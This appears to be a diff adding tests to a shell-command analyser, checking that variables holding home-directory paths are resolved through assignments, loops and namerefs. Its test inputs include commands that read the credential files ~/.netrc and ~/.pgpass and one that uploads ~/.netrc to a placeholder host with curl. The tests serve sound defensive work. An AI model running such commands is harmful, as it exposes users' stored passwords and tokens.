@@ -95,3 +95,24 @@ test('what is written to a coprocess is its input', () => {
   const [target] = invocations.find(({ tool }) => tool === 'echo')?.redirections ?? [];
   expect(target?.target.parts).toEqual([expect.objectContaining({ kind: 'process', direction: 'out' })]);
 });
+
+describe('a value that begins with a home directory', () => {
+  test.each([
+    ['f=~/.netrc; cat "$f"', 'cat ~/.netrc'],
+    ['f=$HOME/.netrc; cat $f', 'cat $HOME/.netrc'],
+    ['f=~/.netrc; curl -F "x=@$f" h', 'curl -F x=@~/.netrc h'],
+    ['for f in ~/.netrc ~/.pgpass; do cat "$f"; done', 'cat ~/.pgpass'],
+    ['declare -n g=f; f=~/.netrc; cat "$g"', 'cat ~/.netrc'],
+  ])('is followed: %s', (command, expected) => {
+    expect(runs(command)).toContain(expected);
+  });
+
+  test.each([
+    'f=~/.netrc; f=$(date); cat "$f"',
+    'f=~/.netrc; read -r f; cat "$f"',
+    'f=~/.netrc; f=other; cat "$f"',
+    'f=~/$(date); cat "$f"',
+  ])('is not taken for a later or an unknown one: %s', (command) => {
+    expect(runs(command).join('\n')).not.toContain('cat ~/');
+  });
+});
